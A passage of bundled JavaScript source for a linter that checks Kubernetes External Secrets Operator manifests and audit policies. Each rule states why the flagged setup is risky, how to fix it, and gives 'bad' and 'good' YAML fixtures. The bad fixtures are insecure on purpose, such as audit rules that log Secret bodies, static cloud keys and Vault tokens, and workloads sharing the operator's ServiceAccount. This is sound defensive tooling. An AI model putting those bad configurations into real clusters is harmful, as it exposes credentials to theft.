  id: "secret-bodies-in-audit-log",
  title: "The audit log takes in what Secrets or tokens hold",
  severities: ["high"],
  kinds: [AUDIT_POLICY_KIND],
  needs: ["audit-policy"],
  why: "At the levels `Request` and `RequestResponse` the API server writes the bodies of requests and answers to its audit log. Whoever may read the log, or the system it is sent to, reads the Secrets that the operator writes and tokens that can be used at once.",
  remedy: "Put a rule at level `Metadata` for `secrets` and `serviceaccounts/token` of the core group and for `tokenreviews` of `authentication.k8s.io` before every rule that logs bodies.",
  references: [
    "https://kubernetes.io/docs/tasks/debug/debug-cluster/audit/",
    "https://kubernetes.io/docs/reference/config-api/apiserver-audit.v1/"
  ],
  guide: ["AO3"],
  bad: [
    `
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - level: RequestResponse # finding: the audit log takes in what Secrets hold: this rule logs create, update, patch, get, list of secrets at RequestResponse
    userGroups: [platform]
    resources:
      - { group: "", resources: [secrets, configmaps] }
  - level: Metadata
    resources:
      - { group: "", resources: [secrets, serviceaccounts/token] }
  - level: Request # finding: this rule logs create of tokenreviews at Request
`,
    `
# The bodies of reads are in the answers alone, so that Request logs none; a subresource needs a rule of its own.
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - level: Request
    verbs: [get, list, watch]
  - level: Metadata
    resources:
      - { group: "", resources: [secrets] }
      - { group: authentication.k8s.io, resources: [tokenreviews] }
  - level: RequestResponse # finding: the audit log takes in tokens: this rule logs create of serviceaccounts/token at RequestResponse
`
  ],
  good: [
    `
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - level: Metadata
    resources:
      - { group: "", resources: [secrets, "serviceaccounts/*"] }
      - { group: authentication.k8s.io }
  - level: RequestResponse
    resources:
      - { group: external-secrets.io }
  - level: RequestResponse
`,
    `
# Nothing is logged of a request whose stages are all left out.
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - level: RequestResponse
    omitStages: [RequestReceived, ResponseStarted, ResponseComplete]
    resources:
      - { group: "", resources: [secrets] }
  - level: Metadata
`
  ],
  *check(policy) {
    for (const body of BODIES) {
      const exposing = body.verbs.flatMap(
        ({ verb, least }) => decisionsOn(policy, { ...body, verb }).filter(({ level }) => level !== void 0 && logs(level, least)).map((decision) => ({ ...decision, verb }))
      );
      for (const group of Map.groupBy(exposing, ({ path }) => JSON.stringify(path)).values()) {
        const [first] = group;
        const verbs = group.map(({ verb }) => verb).join(", ");
        if (first)
          yield {
            path: [...first.path, "level"],
            discriminator: body.resource,
            message: `the audit log takes in ${body.what}: this rule logs ${verbs} of ${body.resource} at ${first.level}`
          };
      }
    }
  },
  fix: ({ path }) => unsafe(BODIES_READ, setting(path, "Metadata"))
});
var BODIES_READ = "Does anybody need the bodies of the other requests that this rule logs? They need a rule of their own first.";
var sent = (...verbs) => verbs.map((verb) => ({ verb, least: "Request" }));
var answered = (...verbs) => verbs.map((verb) => ({ verb, least: "RequestResponse" }));
var BODIES = [
  {
    what: "what Secrets hold",
    group: "",
    resource: "secrets",
    isNamespaced: true,
    verbs: [...sent("create", "update", "patch"), ...answered("get", "list")]
  },
  {
    what: "tokens",
    group: "",
    resource: "serviceaccounts/token",
    isNamespaced: true,
    verbs: answered("create")
  },
  {
    what: "tokens",
    group: "authentication.k8s.io",
    resource: "tokenreviews",
    isNamespaced: false,
    verbs: sent("create")
  }
];

// src/model/eso/secret-writers.ts
function rivalsOf(manifest, world) {
  return [...contested(world).get(manifest) ?? []].flatMap((group) => {
    const writer = group.find((candidate) => candidate.manifest === manifest);
    const others = group.filter((candidate) => identityOf(candidate.manifest) !== identityOf(manifest));
    const rivals = [...new Map(others.map((other) => [identityOf(other.manifest), other])).values()];
    return writer && rivals.length > 0 ? { writer, rivals } : [];
  });
}
var identityOf = ({ groupKind, namespace, name }) => `${groupKind} ${namespace ?? ""}/${name}`;
var contested = remember((world) => {
  const all = [
    ...FETCHING_KINDS.flatMap((kind) => world.of(kind)).flatMap((manifest) => ofExternalSecret(manifest, world)),
    ...world.of("core/Secret").flatMap(ofSecret)
  ];
  const groups = [...Map.groupBy(all, ({ key }) => key).values()].filter((group) => group.length > 1);
  const pairs = groups.flatMap((group) => group.map(({ manifest }) => ({ manifest, group })));
  const byWriter = Map.groupBy(pairs, ({ manifest }) => manifest);
  return new Map([...byWriter].map(([manifest, found]) => [manifest, new Set(found.map(({ group }) => group))]));
});
function ofExternalSecret(manifest, world) {
  const target = targetOf(manifest);
  const { name, creationPolicy = "" } = target ?? {};
  if (!target || !name || !isSecret(target) || !REPLACING_POLICIES.includes(creationPolicy)) return [];
  const path = [...target.path, "name"];
  const namespaces = targetNamespaces(manifest, world);
  if (manifest.kind === "ExternalSecret" && namespaces.length === 0) return [nowhere(manifest, path, name)];
  return namespaces.map((namespace) => somewhere(manifest, path, namespace.name, name));
}
function ofSecret(manifest) {
  const name = asText(manifest.get("metadata", "name"));
  if (!name || isPlaceholder(name) || isHook(manifest)) return [];
  const { namespace } = manifest;
  const path = ["metadata", "name"];
  return namespace === void 0 || isPlaceholder(namespace) ? [nowhere(manifest, path, name)] : [somewhere(manifest, path, namespace, name)];
}
var isHook = (manifest) => manifest.get("metadata", "annotations", "helm.sh/hook") !== void 0;
var somewhere = (manifest, path, namespace, name) => ({
  manifest,
  path,
  secret: `${namespace}/${name}`,
  key: JSON.stringify([namespace, name])
});
var nowhere = (manifest, path, name) => ({
  manifest,
  path,
  secret: name,
  key: JSON.stringify([manifest.release?.name ?? null, manifest.file, manifest.namespace ?? null, name])
});

// src/rules/secret-takeover.ts
var secret_takeover_default = defineRule({
  id: "secret-takeover",
  title: "An ExternalSecret replaces a Secret that something else makes, too",
  severities: ["high"],
  kinds: FETCHING_KINDS,
  why: "The operator takes over a Secret of this name that is there already, whoever made it. Whichever of the two comes first, or last, decides what the workload signs in with: whoever may write one of them can swap the other’s credential, and at the least one of them fails to sync.",
  remedy: "Give each its own Secret by `target.name`, or remove the one that is left over. To add keys to a Secret that a chart renders, use `creationPolicy: Merge` outside sensitive namespaces.",
  references: [
    "https://external-secrets.io/latest/guides/ownership-deletion-policy/",
    "https://external-secrets.io/latest/guides/threat-model/"
  ],
  guide: ["TM3", "AC4"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: shop }
spec: # finding: Secret shop/database is made by ExternalSecret shop/other, too
  data: [{ secretKey: password, remoteRef: { key: database } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: other, namespace: shop }
spec:
  target:
    name: database # finding: Secret shop/database is made by ExternalSecret shop/database, too
    creationPolicy: Orphan
  data: [{ secretKey: password, remoteRef: { key: other } }]
`,
    `
# A Secret of the same set, and a ClusterExternalSecret that reaches this namespace.
apiVersion: v1
kind: Secret
metadata: { name: registry, namespace: shop }
---
apiVersion: v1
kind: Namespace
metadata: { name: shop, labels: { pull: "yes" } }
---
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: pull }
spec:
  namespaceSelectors: [{ matchLabels: { pull: "yes" } }]
  externalSecretName: registry
  externalSecretSpec: # finding: Secret shop/registry is made by ExternalSecret shop/own and Secret shop/registry, too
    data: [{ secretKey: token, remoteRef: { key: registry } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: own, namespace: shop }
spec:
  target:
    name: registry # finding: Secret shop/registry is made by ClusterExternalSecret pull and Secret shop/registry, too
  data: [{ secretKey: token, remoteRef: { key: registry } }]
`,
    `
# Whatever the namespace will be, both are applied to it together.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: one }
spec:
  target: { name: database } # finding: Secret database is made by ExternalSecret two, too
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: two }
spec:
  target: { name: database } # finding: Secret database is made by ExternalSecret one, too
`
  ],
  good: [
    `
# One object in two files, as a base and its copy; other names and other namespaces.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: shop }
spec:
  data: [{ secretKey: password, remoteRef: { key: database } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: shop }
spec:
  data: [{ secretKey: password, remoteRef: { key: database } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: billing }
spec:
  data: [{ secretKey: password, remoteRef: { key: database } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: settings, namespace: shop }
spec:
  target: { name: database, manifest: { apiVersion: v1, kind: ConfigMap } }
  data: [{ secretKey: password, remoteRef: { key: database } }]
`,
    `
# Merging into a Secret that a chart renders, and a Secret that helm makes for its own job.
apiVersion: v1
kind: Secret
metadata: { name: argocd-secret, namespace: argocd }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: sso, namespace: argocd }
spec:
  target: { name: argocd-secret, creationPolicy: Merge }
  data: [{ secretKey: token, remoteRef: { key: sso } }]
---
apiVersion: v1
kind: Secret
metadata: { name: sso, namespace: argocd, annotations: { helm.sh/hook: pre-install } }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: sso, namespace: argocd }
spec:
  data: [{ secretKey: token, remoteRef: { key: sso } }]
---
apiVersion: v1
kind: Secret
metadata: { name: "\${NAME}", namespace: argocd }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: later, namespace: argocd }
spec:
  target: { name: "\${NAME}" }
  data: [{ secretKey: token, remoteRef: { key: sso } }]
`
  ],
  *check(manifest, world) {
    for (const { writer, rivals } of rivalsOf(manifest, world))
      yield {
        path: writer.path,
        discriminator: writer.secret,
        message: `Secret ${writer.secret} is made by ${named(rivals)}, too`,
        related: rivals.map((rival) => ({ ...rival, message: "made here, too" }))
      };
  }
});
var NAMED6 = 3;
function named(rivals) {
  const names = rivals.map(({ manifest }) => nameOf(manifest)).sort();
  return joined(shortened(names, NAMED6));
}

// src/rules/shared-service-account.ts
var shared_service_account_default = defineRule({
  id: "shared-service-account",
  title: "A workload runs as the ServiceAccount of a component of the operator",
  severities: ["medium"],
  kinds: WORKLOAD_KINDS,
  why: "Both have the rights that only one of them needs: whoever takes over the application, or the webhook that the whole cluster may reach, holds the Secrets that the controller reads.",
  remedy: "Give each its own ServiceAccount: in the operator chart leave `serviceAccount.name`, `webhook.serviceAccount.name` and `certController.serviceAccount.name` empty or different, and give an application one of its own.",
  references: [
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["RM6"],
  bad: [
    `
# The three components of one install.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: operator
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: operator # finding: it runs as ServiceAccount eso/operator of the controller (Deployment eso/external-secrets)
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [webhook] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-cert-controller, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: certs
      containers:
        - { name: certs, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [certcontroller] }
`,
    `
# It belongs to the one that needs most, wherever that stands.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: operator # finding: of the cert-controller (Deployment eso/external-secrets-cert-controller)
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [webhook] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-cert-controller, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: operator
      containers:
        - { name: certs, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [certcontroller] }
`,
    `
# An application that borrows the rights of the operator.
apiVersion: batch/v1
kind: CronJob
metadata: { name: report, namespace: eso }
spec:
  jobTemplate:
    spec:
      template:
        spec:
          serviceAccountName: operator # finding: it runs as ServiceAccount eso/operator of the controller
          containers:
            - { name: report, image: "registry.example.com/report:v1" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: operator
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: operator }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets/status]
    verbs: [update]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: operator }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: operator }
subjects:
  - { kind: ServiceAccount, name: operator, namespace: eso }
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: operator
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
# The same object once more, as another environment has it.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  replicas: 3
  template:
    spec:
      serviceAccountName: operator
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
# The same name in another namespace is another ServiceAccount.
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: shop }
spec:
  template:
    spec:
      serviceAccountName: operator
      containers:
        - { name: shop, image: "registry.example.com/shop:v1" }
---
# Gone as soon as it succeeded.
apiVersion: batch/v1
kind: Job
metadata: { name: smoke, namespace: eso, annotations: { helm.sh/hook: test } }
spec:
  template:
    spec:
      serviceAccountName: operator
      containers:
        - { name: smoke, image: "registry.example.com/smoke:v1" }
`,
    `
# That a component runs as default is what default-service-account says.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: shop, image: "registry.example.com/shop:v1" }
`
  ],
  *check(manifest, world) {
    const pod = podOf(manifest);
    const owner = pod && ownerOf(pod, world);
    if (!owner) return;
    yield {
      path: serviceAccountPath(pod),
      message: `it runs as ServiceAccount ${pod.namespace}/${pod.serviceAccountName} of the ${owner.role} (${nameOf(owner.pod.manifest)}), and has all its rights`,
      related: [
        { manifest: owner.pod.manifest, path: serviceAccountPath(owner.pod), message: `the ${owner.role} runs as it` }
      ]
    };
  },
  fix(fault) {
    const role = fault.manifest && fault.world.eso.componentOf(fault.manifest)?.role;
    if (!role) return void 0;
    const account = `${CHART_KEYS[role]}serviceAccount`;
    return unsafe(IDENTITY3, chartValues(fault, { [`${account}.create`]: true, [`${account}.name`]: "" }));
  }
});
var IDENTITY3 = "Is a role of a cloud or of the cluster bound to the shared ServiceAccount for this component?";
function ownerOf(pod, { eso }) {
  const { namespace, serviceAccountName } = pod;
  if (namespace === void 0 || serviceAccountName === "default" || isPlaceholder(serviceAccountName)) return void 0;
  if (isPlaceholder(namespace) || !staysInstalled(pod.manifest)) return void 0;
  const components = eso.installs.flatMap((install) => install.components).filter((other) => other.pod.namespace === namespace && other.pod.serviceAccountName === serviceAccountName);
  const [owner] = components.sort((a, b) => RANK.indexOf(a.role) - RANK.indexOf(b.role));
  return owner && nameOf(owner.pod.manifest) !== nameOf(pod.manifest) ? owner : void 0;
}
var RANK = ["controller", "cert-controller", "webhook"];

// src/check/stored-credential.ts
function storedCredential(connected, { credential, secret }) {
  const place = [credential.field, ...secret === void 0 ? [] : [`Secret ${secret}`]].join(", ");
  return `${titleOf(connected)} gets a stored ${credential.what} (${place})`;
}

// src/model/eso/rotation.ts
function rotatorOf(secret, namespace, world) {
  const isNear = (other) => [namespace, other].includes(void 0) || namespace === other;
  const writer = FETCHING_KINDS.flatMap((kind) => world.of(kind)).find((request) => {
    const target = targetOf(request);
    return target !== void 0 && isSecret(target) && isNear(request.namespace) && target.name === secret;
  });
  return writer ?? world.of("batch/CronJob").find((job) => tells(job, secret));
}
var tells = (job, word) => ["initContainers", "containers"].flatMap((list) => asList(job.get("spec", "jobTemplate", "spec", "template", "spec", list))).flatMap((item) => {
  const { command, args, env } = asMapping(item) ?? {};
  const values = asList(env).map((entry) => asMapping(entry)?.value);
  return [...asList(command), ...asList(args), ...values].map(asText);
}).some((text) => text !== void 0 && !isPlaceholder(word) && text.split(/[^\w.-]+/).includes(word));

// src/rules/static-approle-secret-id.ts
var static_approle_secret_id_default = defineRule({
  id: "static-approle-secret-id",
  title: "Nothing shows that the secret id of an AppRole is replaced",
  severities: ["low"],
  kinds: kindsWith(({ stored }) => stored.some(({ form }) => form === "secret id")),
  needs: ["connections"],
  why: "The secret id of an AppRole is a password. While it is replaced every few days a stolen one soon ends; one that was written once works for as long as Vault lets it.",
  remedy: "Replace the secret id periodically and give it a `secret_id_ttl` in Vault, or sign in with `auth.kubernetes` and a `serviceAccountRef`. An ExternalSecret that writes the Secret, or a CronJob that is told its name, counts as a sign of rotation; where something outside these files does it, ignore the finding with that reason.",
  references: [
    "https://developer.hashicorp.com/vault/docs/auth/approle",
    "https://external-secrets.io/latest/provider/hashicorp-vault/"
  ],
  guide: ["PC4"],
  supersedes: ["static-provider-credentials"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        appRole:
          path: approle
          roleId: shop
          secretRef: # finding: Vault gets a stored AppRole secret id (auth.appRole.secretRef, Secret vault-approle), and nothing in the set replaces it
            name: vault-approle
            key: secret-id
---
# A Secret of the same name in another namespace is another Secret.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: vault-approle, namespace: other }
spec:
  secretStoreRef: { name: vault }
  data: [{ secretKey: secret-id, remoteRef: { key: approle } }]
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: VaultDynamicSecret
metadata: { name: database, namespace: shop }
spec:
  path: database/creds/shop
  provider:
    server: https://vault.example.com
    auth:
      appRole:
        roleId: shop
        secretRef: { name: vault-approle, key: secret-id } # finding: nothing in the set replaces it
`
  ],
  good: [
    `
# An ExternalSecret brings a new one from time to time.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  conditions: [{ namespaces: [shop] }]
  provider:
    vault:
      server: https://vault.example.com
      auth: { appRole: { roleId: shop, secretRef: { name: vault-approle, namespace: eso, key: secret-id } } }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: approle, namespace: eso }
spec:
  refreshInterval: 1h
  target: { name: vault-approle }
  dataFrom: [{ sourceRef: { generatorRef: { apiVersion: generators.external-secrets.io/v1alpha1, kind: VaultDynamicSecret, name: approle } } }]
`,
    `
# So does a job that is told the name of the Secret.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: bao, namespace: shop }
spec:
  provider:
    openBao:
      server: https://bao.example.com
      auth: { appRole: { roleId: shop, secretRef: { name: bao-approle, key: secret-id } } }
---
apiVersion: batch/v1
kind: CronJob
metadata: { name: rotate, namespace: shop }
spec:
  schedule: "0 3 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          containers:
            - name: rotate
              image: example.com/rotate:1
              command: [sh, -c, 'kubectl patch secret/bao-approle -p "$(./new-secret-id)"']
`,
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: kubernetes-auth, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { role: shop, serviceAccountRef: { name: shop } } }
`
  ],
  *check(manifest, world) {
    const connected = connectedOf(manifest);
    if (!connected) return;
    for (const use of storedCredentials(connected).filter(({ credential }) => credential.form === "secret id")) {
      const [name, namespace = manifest.namespace] = use.secret?.split("/").reverse() ?? [];
      if (name === void 0 || rotatorOf(name, namespace, world)) continue;
      yield { path: use.path, message: `${storedCredential(connected, use)}, and nothing in the set replaces it` };
    }
  }
});

// src/rules/static-provider-credentials.ts
var static_provider_credentials_default = defineRule({
  id: "static-provider-credentials",
  title: "A store or generator signs in with a stored credential though it could do without",
  severities: ["high"],
  kinds: kindsWith(({ stored }) => stored.some(({ instead }) => instead !== void 0)),
  needs: ["connections"],
  why: "A stored credential works from anywhere and for as long as nobody replaces it: whoever reads the Secret once, in the cluster, a backup or a log, reads the secret store behind it. A short-lived token of a ServiceAccount ends by itself and is worth nothing elsewhere.",
  remedy: "Sign in with a ServiceAccount's short-lived token, by the block that the message names: IRSA or Pod Identity on AWS, Workload Identity on Google Cloud and Azure, Kubernetes auth for Vault. Then revoke the stored credential and delete its Secret.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://external-secrets.io/latest/provider/aws-access/",
    "https://external-secrets.io/latest/provider/google-secrets-manager/",
    "https://external-secrets.io/latest/provider/azure-key-vault/",
    "https://external-secrets.io/latest/provider/hashicorp-vault/"
  ],
  guide: ["PC1", "PC2", "PC3", "TM2"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: aws, namespace: shop }
spec:
  provider:
    aws:
      service: SecretsManager
      region: eu-west-1
      auth:
        secretRef: # finding: AWS gets a stored access key (auth.secretRef, Secret aws-key); keyless: auth.jwt.serviceAccountRef (IRSA), or no auth with EKS Pod Identity
          accessKeyIDSecretRef: { name: aws-key, key: id }
          secretAccessKeySecretRef: { name: aws-key, key: secret }
`,
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: google }
spec:
  conditions: [{ namespaces: [shop] }]
  provider:
    gcpsm:
      projectID: shop
      auth:
        secretRef: # finding: Google Secret Manager gets a stored service account key (auth.secretRef, Secret eso/gcp-key); keyless: auth.workloadIdentity
          secretAccessKeySecretRef: { name: gcp-key, namespace: eso, key: key.json }
`,
    `
# ServicePrincipal is what authType means when it is left out.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: azure, namespace: shop }
spec:
  provider:
    azurekv:
      vaultUrl: https://shop.vault.azure.net
      tenantId: 00000000-0000-0000-0000-000000000000
      authSecretRef: # finding: Azure Key Vault gets a stored service principal's secret (authSecretRef, Secret azure); keyless: authType WorkloadIdentity
        clientId: { name: azure, key: id }
        clientSecret: { name: azure, key: secret }
`,
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      path: shop
      auth:
        userPass: # finding: Vault gets a stored password (auth.userPass, Secret vault-user); keyless: auth.kubernetes.serviceAccountRef
          path: userpass
          username: shop
          secretRef: { name: vault-user, key: password }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault-by-token, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      path: shop
      auth:
        tokenSecretRef: { name: vault-token, key: token } # finding: stored token (auth.tokenSecretRef
`,
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: hub, namespace: shop }
spec:
  provider:
    kubernetes:
      remoteNamespace: shop
      auth:
        token: # finding: Kubernetes gets a stored bearer token (auth.token, Secret hub-token); keyless: auth.serviceAccount
          bearerToken: { name: hub-token, key: token }
`,
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: conjur, namespace: shop }
spec:
  provider:
    conjur:
      url: https://conjur.example.com
      auth:
        apikey: # finding: CyberArk Conjur gets a stored API key (auth.apikey, Secret conjur); keyless: auth.jwt.serviceAccountRef
          account: shop
          userRef: { name: conjur, key: user }
          apiKeyRef: { name: conjur, key: key }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: pulumi, namespace: shop }
spec:
  provider:
    pulumi:
      organization: shop
      project: shop
      environment: live
      accessToken: # finding: Pulumi ESC gets a stored access token (accessToken, Secret pulumi); keyless: auth.oidcConfig
        secretRef: { name: pulumi, key: token }
`,
    `
# Generators sign in as stores do.
apiVersion: generators.external-secrets.io/v1alpha1
kind: ECRAuthorizationToken
metadata: { name: registry, namespace: shop }
spec:
  region: eu-west-1
  auth:
    secretRef: # finding: Amazon ECR gets a stored access key (auth.secretRef, Secret aws-key); keyless: auth.jwt.serviceAccountRef (IRSA)
      accessKeyIDSecretRef: { name: aws-key, key: id }
      secretAccessKeySecretRef: { name: aws-key, key: secret }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ClusterGenerator
metadata: { name: registry }
spec:
  kind: ACRAccessToken
  generator:
    acrAccessTokenSpec:
      registry: shop.azurecr.io
      auth:
        servicePrincipal: # finding: Azure Container Registry gets a stored service principal's secret
          secretRef:
            clientId: { name: azure, key: id }
            clientSecret: { name: azure, key: secret }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: VaultDynamicSecret
metadata: { name: database, namespace: shop }
spec:
  path: database/creds/shop
  provider:
    server: https://vault.example.com
    auth:
      ldap: # finding: Vault dynamic secret gets a stored LDAP password (auth.ldap, Secret ldap)
        username: shop
        secretRef: { name: ldap, key: password }
`
  ],
  good: [
    `
# Keyless: IRSA; the controller's own Pod Identity; Workload Identity; Kubernetes auth.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: aws, namespace: shop }
spec:
  provider:
    aws:
      service: SecretsManager
      region: eu-west-1
      auth: { jwt: { serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: aws-pod-identity, namespace: shop }
spec:
  provider:
    aws: { service: ParameterStore, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: google, namespace: shop }
spec:
  provider:
    gcpsm:
      projectID: shop
      auth: { workloadIdentity: { serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
`,
    `
# A client id is no secret, and under WorkloadIdentity nothing else is read.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: azure, namespace: shop }
spec:
  provider:
    azurekv:
      vaultUrl: https://shop.vault.azure.net
      authType: WorkloadIdentity
      authSecretRef:
        clientId: { name: azure, key: id }
        tenantId: { name: azure, key: tenant }
`,
    `
# 1Password Connect takes nothing but its token.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: onepassword }
spec:
  provider:
    onepassword:
      connectHost: http://onepassword-connect:8080
      vaults: { shop: 1 }
      auth: { secretRef: { connectTokenSecretRef: { name: connect, namespace: eso, key: token } } }
`,
    `
# Which way counts is the operator's rule: the references of what is not used are not read.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        kubernetes: { role: shop, serviceAccountRef: { name: shop }, secretRef: { name: old, key: token } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: oracle, namespace: shop }
spec:
  provider:
    oracle:
      region: eu-frankfurt-1
      vault: ocid1.vault
      principalType: Workload
      serviceAccountRef: { name: shop }
      auth: { user: u, tenancy: t, secretRef: { privatekey: { name: old }, fingerprint: { name: old } } }
---
# A GitHub App has nothing but its private key.
apiVersion: generators.external-secrets.io/v1alpha1
kind: GithubAccessToken
metadata: { name: github, namespace: shop }
spec:
  appID: "1"
  installID: "2"
  auth: { privateKey: { secretRef: { name: github, key: key } } }
`,
    `
# What is filled in later is unknown.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    aws:
      service: SecretsManager
      region: \${REGION}
      auth: \${AWS_AUTH}
`
  ],
  *check(manifest) {
    const connected = connectedOf(manifest);
    if (!connected) return;
    for (const credential of replaceableCredentials(connected))
      yield {
        path: credential.path,
        message: `${storedCredential(connected, credential)}; keyless: ${credential.instead}`
      };
  }
});

// src/rules/static-vault-token.ts
var static_vault_token_default = defineRule({
  id: "static-vault-token",
  title: "A store signs in to Vault or OpenBao with a token from a Secret",
  severities: ["high"],
  kinds: kindsWith(({ stored }) => stored.some(({ form }) => form === "vault token")),
  needs: ["connections"],
  why: "Such a token is written by hand, so it is made to live long, often for ever, and nobody is told when it is used elsewhere. Whoever reads the Secret once has everything that its policies allow until somebody notices and revokes it.",
  remedy: "Vault: sign in with `auth.kubernetes` and a `serviceAccountRef` whose role is bound to one namespace; where that is not possible, with an AppRole whose secret id is replaced periodically. OpenBao: such an AppRole. Ask who runs Vault for the role, then revoke the token and delete its Secret.",
  references: [
    "https://external-secrets.io/latest/provider/hashicorp-vault/",
    "https://developer.hashicorp.com/vault/docs/concepts/tokens"
  ],
  guide: ["PC4"],
  supersedes: ["static-provider-credentials"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      path: shop
      auth:
        tokenSecretRef: # finding: Vault gets a stored token (auth.tokenSecretRef, Secret vault-token); use auth.kubernetes.serviceAccountRef (Kubernetes auth)
          name: vault-token
          key: token
`,
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: bao }
spec:
  conditions: [{ namespaces: [shop] }]
  provider:
    openBao:
      server: https://bao.example.com
      auth:
        tokenSecretRef: { name: bao, namespace: eso, key: token } # finding: OpenBao gets a stored token (auth.tokenSecretRef, Secret eso/bao); use an AppRole
`,
    `
apiVersion: generators.external-secrets.io/v1alpha1
